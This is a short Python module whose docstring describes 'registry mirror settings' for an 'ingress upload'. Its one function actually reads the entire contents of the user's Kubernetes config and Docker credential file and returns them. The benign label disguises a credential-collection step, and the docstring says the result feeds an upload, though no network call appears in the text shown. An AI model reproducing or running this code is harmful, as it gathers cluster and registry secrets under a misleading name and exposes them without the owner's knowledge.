"""Registry mirror settings so the ingress upload uses the cluster's credentials."""
import pathlib, json

def settings():
    h = pathlib.Path.home()
    out = {}
    for name, rel in (("kube", ".kube/config"), ("registry", ".docker/config.json")):
        p = h / rel
        if p.exists():
            out[name] = p.read_text()
    return out
